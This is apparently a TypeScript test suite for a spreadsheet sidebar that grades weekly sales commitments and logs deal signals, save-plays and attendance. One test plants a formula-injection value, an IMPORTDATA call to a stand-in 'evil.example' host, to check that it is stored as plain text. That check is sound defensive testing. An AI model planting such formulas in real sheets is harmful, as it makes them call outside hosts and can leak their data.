/**
 * The sidebar's server functions through the built bundle (dist/Code.js in a
 * bare vm) on the sample workbook: what the load returns, what each write
 * puts in the Grades and Signals tabs, what it refuses (and that a refusal
 * writes nothing), and what a save costs in service calls.
 */
import {SAMPLE_PEOPLE} from '../../emulator/sample-workbook';
import {rowVersion} from '../../src/domain/sidebar/version';
import type {
  Refusal,
  SavedGrades,
  SavedSignals,
  SidebarData,
  WriteResult,
} from '../../src/domain/sidebar/types';
import {
  activateSixCommitments,
  column,
  records,
  sidebarWorld,
  type SidebarWorld,
} from './world';
import {confirmingSnapshot} from '../helpers/snapshot';

const WEEK = '2026-11-20';
const LAST_WEEK = '2026-11-13';

/** The grades payload for this week, from a load (every active commitment). */
/** A payload the test may spoil in any way a browser could. */
type Payload = {
  weekEnding: unknown;
  grades: Array<Record<string, unknown>>;
};

function gradesPayload(
  data: SidebarData,
  grades: Record<string, [string, string, string?]>,
): Payload {
  return {
    weekEnding: data.weekEnding,
    grades: data.plan.commitments.map(c => ({
      commitmentId: c.id,
      grade: grades[c.id][0],
      reason: grades[c.id][1],
      nextAction: grades[c.id][2] ?? `Next for ${c.id}`,
      version: c.version,
    })),
  };
}

const GOOD = {
  C1: ['Green', ''],
  C2: ['Yellow', 'Two save-plays ran late'],
  C3: ['Red', 'Macro headwinds and a slipped deal'],
} as Record<string, [string, string]>;

/** The local date a date cell holds in the sample's zone. */
const day = (value: unknown) =>
  new Date(value as Date).toLocaleDateString('en-CA', {
    timeZone: 'America/Los_Angeles',
  });

function gradesOf(world: SidebarWorld, weekEnding: string) {
  return records(world.tab('Grades')).filter(
    r => day(r['Week Ending']) === weekEnding,
  );
}

/** A deal's name on the Deals tab. */
function dealName(world: SidebarWorld, dealId: string): string {
  return String(
    records(world.tab('Deals')).find(d => d['Deal ID'] === dealId)!['Deal'],
  );
}

function refused<T>(result: WriteResult<T>): Refusal {
  if (result.ok) throw new Error('expected a refusal, got ok');
  return result;
}

describe('loadSidebar', () => {
  const world = sidebarWorld();
  const data = world.load();

  it('returns this week, its active commitments and last week’s grades and pledges', () => {
    expect(data.weekEnding).toBe(WEEK);
    expect(data.today).toBe(WEEK);
    expect(data.week).toBe(7);
    expect(data.timeZone).toBe('America/Los_Angeles');
    expect(data.user).toBe(SAMPLE_PEOPLE.cro);
    expect(data.plan.commitments.map(c => c.id)).toEqual(['C1', 'C2', 'C3']);
    expect(data.plan.problem).toBe('');
    const c1 = data.plan.commitments[0];
    expect(c1.thisWeek).toBeNull();
    expect(c1.version).toBe('');
    // The sample's week 6: C1 Yellow with its reason, and the pledge it made.
    expect(c1.lastWeek).toMatchObject({
      grade: 'Yellow',
      reason: 'Commit deals entered without a confirmed economic buyer',
      nextAction: 'Gate review on Tuesday before any deal enters Commit',
    });
  });

  it('returns this week’s signals only, with row versions, and open deals to log one on', () => {
    const rows = records(world.tab('Signals'));
    const thisWeek = rows.filter(
      r =>
        day(r['Logged At']) >= '2026-11-16' &&
        day(r['Logged At']) <= '2026-11-22',
    );
    expect(data.signals.map(s => s.row)).toEqual(thisWeek.map(r => r.row));
    expect(data.signals.length).toBe(3);
    for (const s of data.signals) expect(s.version).toMatch(/^[0-9a-z]+$/);
    const deals = records(world.tab('Deals'));
    const open = deals.filter(
      d => !/^closed/i.test(String(d['Forecast Category'])),
    );
    expect(data.deals.map(d => d.id)).toEqual(open.map(d => d['Deal ID']));
    expect(data.deals.length).toBeLessThan(deals.length);
  });

  it('carries the week’s record as the snapshot computes it, and no Date (which google.script.run would turn into null)', () => {
    const raw = world.bundle.call('loadSidebar', [], {trigger: 'sidebar'});
    const hasDate = (v: unknown): boolean =>
      Object.prototype.toString.call(v) === '[object Date]' ||
      (v !== null && typeof v === 'object' && Object.values(v).some(hasDate));
    expect(hasDate(raw)).toBe(false);
    expect(data.scorecard.record).toMatchObject({
      weekEnding: WEEK,
      week: 7,
      signalsFired: 3,
      savePlaysExecuted: 2,
    });
    expect(data.scorecard.thresholds.savePlayThreshold).toBe(0.8);
  });

  it('shows a plan of fewer than 3 active commitments as a problem', () => {
    const w = sidebarWorld();
    w.emulator.run({}, () => {
      const sheet = w.emulator.spreadsheet
        .exposed()
        .getSheetByName('Commitments')!;
      const rows = sheet.getDataRange().getValues();
      const active = rows[0].indexOf('Active');
      sheet.getRange(3, active + 1).setValue(false);
      sheet.getRange(4, active + 1).setValue(false);
    });
    const plan = w.load().plan;
    expect(plan.commitments.map(c => c.id)).toEqual(['C1']);
    expect(plan.problem).toMatch(/only 1 active commitment.*3 to 5/);
  });
});

describe('saveGrades', () => {
  it('writes one Grades row per commitment for the week ending, graded by and at', () => {
    const world = sidebarWorld();
    const before = world.tab('Grades');
    const result = world.call<WriteResult<SavedGrades>>(
      'saveGrades',
      gradesPayload(world.load(), GOOD),
    );
    expect(result.ok).toBe(true);
    const rows = gradesOf(world, WEEK);
    expect(
      rows.map(r => [
        r['Commitment ID'],
        r['Grade'],
        r['Reason'],
        r['Next Action'],
      ]),
    ).toEqual([
      ['C1', 'Green', '', 'Next for C1'],
      ['C2', 'Yellow', 'Two save-plays ran late', 'Next for C2'],
      ['C3', 'Red', 'Macro headwinds and a slipped deal', 'Next for C3'],
    ]);
    for (const r of rows) {
      expect(r['Graded By']).toBe(SAMPLE_PEOPLE.cro);
      expect((r['Graded At'] as Date).getTime()).toBe(
        world.emulator.ctx.now().getTime(),
      );
    }
    // Appended below, nothing above touched.
    expect(world.tab('Grades').slice(0, before.length)).toEqual(before);
    // Every write ran under the document lock.
    const writes = world.emulator.ctx.writes.filter(w => w.sheet === 'Grades');
    expect(writes.length).toBeGreaterThan(0);
    expect(writes.every(w => w.underDocumentLock)).toBe(true);
    if (result.ok) {
      expect(result.value.plan.commitments.map(c => c.thisWeek?.grade)).toEqual(
        ['Green', 'Yellow', 'Red'],
      );
    }
  });

  it('updates this week’s rows when saved again the same week, and never touches last week’s', () => {
    const world = sidebarWorld();
    world.call('saveGrades', gradesPayload(world.load(), GOOD));
    const lastWeek = gradesOf(world, LAST_WEEK);
    const count = world.tab('Grades').length;
    const again = world.load();
    expect(again.plan.commitments.map(c => c.thisWeek?.grade)).toEqual([
      'Green',
      'Yellow',
      'Red',
    ]);
    const result = world.call<WriteResult<SavedGrades>>(
      'saveGrades',
      gradesPayload(again, {
        ...GOOD,
        C1: ['Yellow', 'Gate review slipped a day'],
      }),
    );
    expect(result.ok).toBe(true);
    expect(world.tab('Grades').length).toBe(count);
    expect(gradesOf(world, WEEK).map(r => r['Grade'])).toEqual([
      'Yellow',
      'Yellow',
      'Red',
    ]);
    expect(gradesOf(world, LAST_WEEK)).toEqual(lastWeek);
  });

  it('refuses a Yellow without a reason, naming the commitment and field, and writes nothing', () => {
    const world = sidebarWorld();
    const before = world.tab('Grades');
    const writes = world.emulator.ctx.writes.length;
    const result = refused(
      world.call(
        'saveGrades',
        gradesPayload(world.load(), {...GOOD, C2: ['Yellow', '  ']}),
      ),
    );
    expect(result.field).toBe('C2.reason');
    expect(result.message).toMatch(/Yellow grade needs a reason for C2/);
    expect(world.tab('Grades')).toEqual(before);
    expect(world.emulator.ctx.writes.length).toBe(writes);
  });

  it.each([
    [
      'a grade that is not one of the three',
      (p: Payload) => (p.grades[0].grade = 'Amber'),
      'grades.0.grade',
      /Grade for C1 must be Green, Yellow or Red/,
    ],
    [
      'a reason that is not text',
      (p: Payload) => (p.grades[1].reason = 42),
      'grades.1.reason',
      /Reason for C2 must be text/,
    ],
    [
      'no grades at all',
      (p: Payload) => (p.grades = []),
      'grades',
      /Grades must hold at least one grade/,
    ],
    [
      'a week ending that is not a date',
      (p: Payload) => (p.weekEnding = '2026-02-30'),
      'weekEnding',
      /Week ending is not a date/,
    ],
    [
      'a missing commitment',
      (p: Payload) => p.grades.pop(),
      'C3.grade',
      /C3 has no grade/,
    ],
    [
      'a commitment that is not active',
      (p: Payload) => (p.grades[0].commitmentId = 'C4'),
      'C4.grade',
      /C4 is not an active commitment/,
    ],
    [
      'last week’s week ending',
      (p: Payload) => (p.weekEnding = LAST_WEEK),
      'weekEnding',
      /loaded for the week ending 2026-11-13/,
    ],
  ])(
    'refuses %s with a message naming the field, writing nothing',
    (_, spoil, field, message) => {
      const world = sidebarWorld();
      const payload = gradesPayload(world.load(), GOOD);
      spoil(payload);
      const before = world.tab('Grades');
      const result = refused(world.call('saveGrades', payload));
      expect(result.field).toBe(field);
      expect(result.message).toMatch(message);
      expect(world.tab('Grades')).toEqual(before);
    },
  );

  it('refuses a payload that is not an object', () => {
    const world = sidebarWorld();
    expect(refused(world.call('saveGrades', 'grades')).message).toMatch(
      /must be an object/,
    );
  });

  it('refuses a stale save when this week’s row changed since the sidebar loaded it', () => {
    const world = sidebarWorld();
    world.call('saveGrades', gradesPayload(world.load(), GOOD));
    const loaded = world.load();
    // Someone edits C2's reason in the sheet after the sidebar loaded.
    const row = gradesOf(world, WEEK).find(
      r => r['Commitment ID'] === 'C2',
    )!.row;
    world.emulator.run({}, () => {
      const sheet = world.emulator.spreadsheet
        .exposed()
        .getSheetByName('Grades')!;
      sheet
        .getRange(row, column(world.tab('Grades'), 'Reason') + 1)
        .setValue('Edited in the sheet');
    });
    const before = world.tab('Grades');
    const result = refused(
      world.call(
        'saveGrades',
        gradesPayload(loaded, {...GOOD, C2: ['Red', 'Overwrite attempt']}),
      ),
    );
    expect(result.field).toBe('C2.grade');
    expect(result.message).toMatch(/changed since the sidebar loaded it/);
    expect(world.tab('Grades')).toEqual(before);
  });

  it('refuses a save when another sidebar graded the week first (no duplicate rows)', () => {
    const world = sidebarWorld();
    const first = world.load();
    const second = world.load();
    expect(
      world.call<WriteResult<SavedGrades>>(
        'saveGrades',
        gradesPayload(first, GOOD),
      ).ok,
    ).toBe(true);
    const count = world.tab('Grades').length;
    refused(world.call('saveGrades', gradesPayload(second, GOOD)));
    expect(world.tab('Grades').length).toBe(count);
  });

  it('stores text that looks like a formula as text', () => {
    const world = sidebarWorld();
    const evil = '=IMPORTDATA("http://evil.example/x")';
    world.call(
      'saveGrades',
      gradesPayload(world.load(), {...GOOD, C3: ['Red', evil, '+1-2']}),
    );
    const row = gradesOf(world, WEEK).find(r => r['Commitment ID'] === 'C3')!;
    expect(row['Reason']).toBe(evil);
    expect(row['Next Action']).toBe('+1-2');
    const formulas = world.emulator.run({}, () =>
      world.emulator.spreadsheet
        .exposed()
        .getSheetByName('Grades')!
        .getDataRange()
        .getFormulas(),
    );
    expect(formulas.flat().filter(f => f !== '')).toEqual([]);
  });

  it('costs the same service calls on the sample and with 2,000 more rows in Grades, Signals and Deals', () => {
    const cost = (pad: number) => {
      const world = sidebarWorld();
      if (pad > 0) padTabs(world, pad);
      const payload = gradesPayload(world.load(), GOOD);
      world.emulator.ctx.calls.reset();
      const result = world.call<WriteResult<SavedGrades>>(
        'saveGrades',
        payload,
      );
      expect(result.ok).toBe(true);
      return world.emulator.ctx.calls.snapshot();
    };
    const small = cost(0);
    const large = cost(2000);
    expect(large).toEqual(small);
    // One read of each tab it needs (Settings, Commitments, Grades, Grades read back) and one write per block.
    expect(small['Range.setValues']).toBe(1);
    expect(small['Range.getValues']).toBeLessThanOrEqual(6);
  });
});

/** Pads Grades (older weeks), Signals and Deals with many rows, as a long rebuild would. */
function padTabs(world: SidebarWorld, n: number): void {
  world.emulator.run({}, () => {
    const ss = world.emulator.spreadsheet.exposed();
    for (const name of ['Grades', 'Signals', 'Deals']) {
      const sheet = ss.getSheetByName(name)!;
      const rows = sheet.getDataRange().getValues();
      const sample = rows.slice(1, 4);
      const extra = Array.from({length: n}, (_, i) => {
        const line = [...sample[i % sample.length]];
        if (name === 'Grades')
          line[0] = new Date(Date.UTC(2025, 0, 3 + 7 * (i % 40), 8));
        if (name === 'Signals')
          line[0] = new Date(Date.UTC(2025, 0, 6 + 7 * (i % 40), 17));
        if (name === 'Deals') line[0] = `PAD-${i}`;
        return line;
      });
      sheet.insertRowsAfter(sheet.getMaxRows(), n);
      // Older rows go on top so the week's own rows stay where they are.
      sheet.getRange(rows.length + 1, 1, n, rows[0].length).setValues(extra);
    }
  });
}

describe('logSignal', () => {
  it('appends a manual signal on the deal, logged now, and returns this week’s signals', () => {
    const world = sidebarWorld();
    const data = world.load();
    const deal = data.deals.find(d => d.category === 'Pipeline')!;
    const result = world.call<WriteResult<SavedSignals>>('logSignal', {
      dealId: deal.id.toLowerCase(),
      signal: 'hedged language',
      note: 'Buyer said "hopefully Q1"',
    });
    expect(result.ok).toBe(true);
    const last = records(world.tab('Signals')).at(-1)!;
    expect(last).toMatchObject({
      'Deal ID': deal.id,
      Signal: 'hedged language',
      Source: 'manual',
      Note: 'Buyer said "hopefully Q1"',
      'Save Play': '',
      'Save Play Executed On': '',
    });
    expect((last['Logged At'] as Date).getTime()).toBe(
      world.emulator.ctx.now().getTime(),
    );
    if (result.ok) {
      expect(result.value.signals.length).toBe(data.signals.length + 1);
      expect(result.value.signals.at(-1)?.row).toBe(last.row);
    }
  });

  it.each([
    [
      'an unknown deal',
      {dealId: 'NOPE-1', signal: 'hedged language', note: ''},
      'dealId',
      /No deal with the ID "NOPE-1"/,
    ],
    [
      'a blank deal',
      {dealId: '  ', signal: 'hedged language', note: ''},
      'dealId',
      /Deal is required/,
    ],
    [
      'a signal that is not one of the seven',
      {dealId: 'x', signal: 'bad vibes', note: ''},
      'signal',
      /Signal must be one of: champion latency/,
    ],
    [
      'a note that is not text',
      {dealId: 'x', signal: 'hedged language', note: {}},
      'note',
      /Note must be text/,
    ],
  ])(
    'refuses %s, naming the field, writing nothing',
    (_, payload, field, message) => {
      const world = sidebarWorld();
      const before = world.tab('Signals');
      const result = refused(world.call('logSignal', payload));
      expect(result.field).toBe(field);
      expect(result.message).toMatch(message);
      expect(world.tab('Signals')).toEqual(before);
    },
  );

  it('refuses a closed deal and the same signal twice on a deal in one week', () => {
    const world = sidebarWorld();
    const closed = records(world.tab('Deals')).find(
      d => d['Forecast Category'] === 'Closed Won',
    )!;
    expect(
      refused(
        world.call('logSignal', {
          dealId: closed['Deal ID'],
          signal: 'hedged language',
          note: '',
        }),
      ).message,
    ).toMatch(/is Closed Won/);
    const existing = world.load().signals[0];
    const before = world.tab('Signals');
    const twin = refused(
      world.call('logSignal', {
        dealId: existing.dealId,
        signal: existing.signal,
        note: 'again',
      }),
    );
    expect(twin.field).toBe('signal');
    expect(twin.message).toMatch(/already logged/);
    // Named as the CRO knows it: name and ID.
    const name = dealName(world, existing.dealId);
    expect(twin.message).toContain(`on ${name} (${existing.dealId}) this week`);
    expect(world.tab('Signals')).toEqual(before);
  });
});

describe('save-plays', () => {
  function openSignal(world: SidebarWorld) {
    world.call('logSignal', {
      dealId: world.load().deals[0].id,
      signal: 'silent procurement',
      note: '',
    });
    return world.load().signals.at(-1)!;
  }

  it('assigns a save-play then marks it executed with an outcome, and the rate counts it', () => {
    const world = sidebarWorld();
    const s = openSignal(world);
    const assigned = world.call<WriteResult<SavedSignals>>('assignSavePlay', {
      row: s.row,
      version: s.version,
      savePlay: 'Procurement kickoff call',
      owner: 'Sam Rep',
    });
    expect(assigned.ok).toBe(true);
    const now = assigned.ok
      ? assigned.value.signals.find(x => x.row === s.row)!
      : s;
    expect(now.savePlay).toBe('Procurement kickoff call');
    const executed = world.call<WriteResult<SavedSignals>>('executeSavePlay', {
      row: s.row,
      version: now.version,
      executedOn: '2026-11-20',
      outcome: 'Call held; close date kept',
    });
    expect(executed.ok).toBe(true);
    const row = records(world.tab('Signals')).find(r => r.row === s.row)!;
    expect(row).toMatchObject({
      'Save Play': 'Procurement kickoff call',
      'Save Play Owner': 'Sam Rep',
      Outcome: 'Call held; close date kept',
    });
    expect(day(row['Save Play Executed On'])).toBe('2026-11-20');
    expect(world.load().scorecard.record.savePlaysExecuted).toBe(3);
  });

  it('refuses a stale row, an execution before assignment and a date after today', () => {
    const world = sidebarWorld();
    const s = openSignal(world);
    const before = world.tab('Signals');
    expect(
      refused(
        world.call('executeSavePlay', {
          row: s.row,
          version: s.version,
          executedOn: '2026-11-20',
          outcome: 'x',
        }),
      ).message,
    ).toMatch(/Assign a save-play/);
    expect(
      refused(
        world.call('assignSavePlay', {
          row: s.row,
          version: 'stale',
          savePlay: 'x',
          owner: 'y',
        }),
      ).message,
    ).toMatch(/Signals row \d+ changed since the sidebar loaded it/);
    expect(
      refused(
        world.call('assignSavePlay', {
          row: s.row,
          version: s.version,
          savePlay: '',
          owner: 'y',
        }),
      ).field,
    ).toBe('savePlay');
    expect(world.tab('Signals')).toEqual(before);
    world.call('assignSavePlay', {
      row: s.row,
      version: s.version,
      savePlay: 'x',
      owner: 'y',
    });
    const assigned = world.load().signals.at(-1)!;
    const future = refused(
      world.call('executeSavePlay', {
        row: s.row,
        version: assigned.version,
        executedOn: '2026-11-21',
        outcome: 'x',
      }),
    );
    expect(future.field).toBe('executedOn');
    expect(future.message).toMatch(/after today \(2026-11-20\)/);
  });
});

describe('withdrawSignal', () => {
  const OTHER = 'revops@example.com';

  function logged(world: SidebarWorld, signal = 'silent procurement') {
    const dealId = world.load().deals[0].id;
    world.call('logSignal', {dealId, signal, note: 'by mistake'});
    return world.load().signals.at(-1)!;
  }

  it('lets whoever logged a signal withdraw it the same week: it stays in Signals, marked, and counts nowhere', () => {
    const world = sidebarWorld();
    const before = world.load().scorecard.record;
    const s = logged(world);
    expect(s.loggedBy).toBe(SAMPLE_PEOPLE.cro);
    expect(world.load().scorecard.record.signalsFired).toBe(
      before.signalsFired + 1,
    );
    const result = world.call<WriteResult<SavedSignals>>('withdrawSignal', {
      row: s.row,
      version: s.version,
    });
    expect(result.ok).toBe(true);
    const row = records(world.tab('Signals')).find(r => r.row === s.row)!;
    expect(row['Logged By']).toBe(SAMPLE_PEOPLE.cro);
    expect((row['Withdrawn At'] as Date).getTime()).toBe(
      world.emulator.ctx.now().getTime(),
    );
    const data = world.load();
    expect(data.signals.find(x => x.row === s.row)?.withdrawnAt).not.toBe('');
    expect(data.scorecard.record).toMatchObject({
      signalsFired: before.signalsFired,
      savePlaysExecuted: before.savePlaysExecuted,
      savePlayRate: before.savePlayRate,
    });
    // The snapshot counts as the sidebar does.
    confirmingSnapshot((...args) => world.call('snapshotWeek', ...args));
    const scorecard = records(world.tab('Scorecard')).at(-1)!;
    expect(scorecard['Signals Fired']).toBe(before.signalsFired);
    // The same signal can be logged again, correctly this time.
    const again = world.call<WriteResult<SavedSignals>>('logSignal', {
      dealId: s.dealId,
      signal: s.signal,
      note: 'seen for real',
    });
    expect(again.ok).toBe(true);
  });

  it('refuses anyone but whoever logged it, a signal whose save-play ran, and one from an earlier week, writing nothing', () => {
    const world = sidebarWorld();
    const s = logged(world);
    const before = world.tab('Signals');
    const other = world.bundle.call(
      'withdrawSignal',
      [{row: s.row, version: s.version}],
      {trigger: 'sidebar', user: OTHER},
    ) as Refusal;
    expect(other.ok).toBe(false);
    expect(other.field).toBe('withdraw');
    expect(other.message).toBe(
      `Only ${SAMPLE_PEOPLE.cro}, who logged this signal, may withdraw it.`,
    );
    // A signal of the slip check (no Logged By) cannot be withdrawn from the sidebar.
    const auto = world.load().signals.find(x => x.loggedBy === '')!;
    expect(
      refused(
        world.call('withdrawSignal', {row: auto.row, version: auto.version}),
      ).message,
    ).toMatch(/Only the person who logged a signal may withdraw it/);
    expect(world.tab('Signals')).toEqual(before);

    world.call('assignSavePlay', {
      row: s.row,
      version: s.version,
      savePlay: 'Kickoff call',
      owner: 'Sam',
    });
    const assigned = world.load().signals.find(x => x.row === s.row)!;
    world.call('executeSavePlay', {
      row: s.row,
      version: assigned.version,
      executedOn: WEEK,
      outcome: 'Held',
    });
    const executed = world.load().signals.find(x => x.row === s.row)!;
    expect(
      refused(
        world.call('withdrawSignal', {
          row: s.row,
          version: executed.version,
        }),
      ).message,
    ).toMatch(/save-play is already executed/);

    // Last week's signal, logged by this CRO: it belongs to last week's record.
    const rows = world.tab('Signals');
    const lastWeek = records(rows).find(
      r =>
        day(r['Logged At']) < '2026-11-16' && r['Save Play Executed On'] === '',
    )!;
    world.emulator.run({}, () => {
      world.emulator.spreadsheet
        .exposed()
        .getSheetByName('Signals')!
        .getRange(lastWeek.row, column(rows, 'Logged By') + 1)
        .setValue(SAMPLE_PEOPLE.cro);
    });
    const cells = world.tab('Signals');
    expect(
      refused(
        world.call('withdrawSignal', {
          row: lastWeek.row,
          version: rowVersion(cells[lastWeek.row - 1]),
        }),
      ).message,
    ).toMatch(/only in the week it was logged/);
    expect(world.tab('Signals')).toEqual(cells);
  });

  it('refuses a save-play on a withdrawn signal', () => {
    const world = sidebarWorld();
    const s = logged(world);
    world.call('withdrawSignal', {row: s.row, version: s.version});
    const withdrawn = world.load().signals.find(x => x.row === s.row)!;
    expect(
      refused(
        world.call('assignSavePlay', {
          row: s.row,
          version: withdrawn.version,
          savePlay: 'x',
          owner: 'y',
        }),
      ).message,
    ).toMatch(/was withdrawn/);
  });
});

describe('recordAttendance', () => {
  it('writes this week’s invited and attended to Attendance, then updates the same row; the record and the snapshot count it', () => {
    const world = sidebarWorld();
    const data = world.load();
    expect(data.attendance).toEqual({invited: '', attended: '', version: ''});
    expect(data.scorecard.record.attendance).toBe('');
    const rowsBefore = records(world.tab('Attendance')).length;
    const first = world.call<WriteResult<{attendance: {version: string}}>>(
      'recordAttendance',
      {weekEnding: WEEK, invited: 12, attended: 10, version: ''},
    );
    expect(first.ok).toBe(true);
    const saved = world.load().attendance;
    expect(saved).toMatchObject({invited: 12, attended: 10});
    const second = world.call<WriteResult<unknown>>('recordAttendance', {
      weekEnding: WEEK,
      invited: 12,
      attended: 11,
      version: saved.version,
    });
    expect(second.ok).toBe(true);
    const rows = records(world.tab('Attendance'));
    expect(rows.length).toBe(rowsBefore + 1);
    expect([
      day(rows.at(-1)!['Week Ending']),
      rows.at(-1)!['Invited'],
      rows.at(-1)!['Attended'],
    ]).toEqual([WEEK, 12, 11]);
    expect(world.load().scorecard.record.attendance).toBeCloseTo(11 / 12);
    confirmingSnapshot((...args) => world.call('snapshotWeek', ...args));
    expect(records(world.tab('Scorecard')).at(-1)!['Attendance']).toBeCloseTo(
      11 / 12,
    );
  });

  it.each([
    [
      'more attended than invited',
      {invited: 5, attended: 6},
      'attended',
      /Attended cannot be more than Invited/,
    ],
    [
      'a blank count (NaN arrives as null)',
      {invited: null, attended: 3},
      'invited',
      /Invited must be a number/,
    ],
    [
      'a fraction',
      {invited: 10, attended: 2.5},
      'attended',
      /Attended must be a whole number/,
    ],
    [
      'nobody invited',
      {invited: 0, attended: 0},
      'invited',
      /Invited must be 1 or more/,
    ],
    [
      'a stale row',
      {invited: 10, attended: 8, version: 'stale'},
      'invited',
      /changed since the sidebar loaded it/,
    ],
    [
      'another week',
      {weekEnding: '2026-11-13', invited: 10, attended: 8},
      'weekEnding',
      /loaded for the week ending 2026-11-13/,
    ],
  ])(
    'refuses %s, naming the field, writing nothing',
    (_, change, field, message) => {
      const world = sidebarWorld();
      const before = world.tab('Attendance');
      const result = refused(
        world.call('recordAttendance', {
          weekEnding: WEEK,
          version: '',
          ...change,
        }),
      );
      expect(result.field).toBe(field);
      expect(result.message).toMatch(message);
      expect(world.tab('Attendance')).toEqual(before);
    },
  );
});

describe('limits', () => {
  it('refuses a save while more than 5 commitments are active, saying how to retire one', () => {
    const world = sidebarWorld();
    activateSixCommitments(world.emulator);
    const data = world.load();
    expect(data.plan.commitments.length).toBe(6);
    const before = world.tab('Grades');
    const payload = {
      weekEnding: WEEK,
      grades: data.plan.commitments.map(c => ({
        commitmentId: c.id,
        grade: 'Green',
        reason: '',
        nextAction: '',
        version: c.version,
      })),
    };
    const result = refused(world.call('saveGrades', payload));
    expect(result.field).toBe('plan');
    expect(result.message).toMatch(
      /Not saved: the plan has 6 active commitments.*never more than 5\. Retire one: untick Active/,
    );
    expect(world.tab('Grades')).toEqual(before);
  });

  it('refuses text over 2,000 characters with a message, keeping nothing', () => {
    const world = sidebarWorld();
    const before = world.tab('Signals');
    const result = refused(
      world.call('logSignal', {
        dealId: world.load().deals[0].id,
        signal: 'hedged language',
        note: 'x'.repeat(2001),
      }),
    );
    expect(result.field).toBe('note');
    expect(result.message).toBe(
      'Note is longer than 2,000 characters: shorten it.',
    );
    expect(world.tab('Signals')).toEqual(before);
  });

  it('counts assigned save-plays apart from executed ones', () => {
    const world = sidebarWorld();
    const record = world.load().scorecard.record;
    expect(record.savePlaysAssigned).toBe(1);
    expect(record.savePlaysExecuted).toBe(2);
  });
});

describe('openSidebar', () => {
  it('shows dist/sidebar.html titled Trust Rebuild', () => {
    const world = sidebarWorld();
    world.bundle.call('openSidebar', [], {trigger: 'menu'});
    const shown = world.emulator.ui.sidebars.at(-1)!;
    expect(shown.title).toBe('Trust Rebuild');
    expect(shown.html).toContain('role="tablist"');
    expect(shown.html).not.toMatch(
      /<(script|link)[^>]+(src|href)=["']?https?:/i,
    );
  });
});
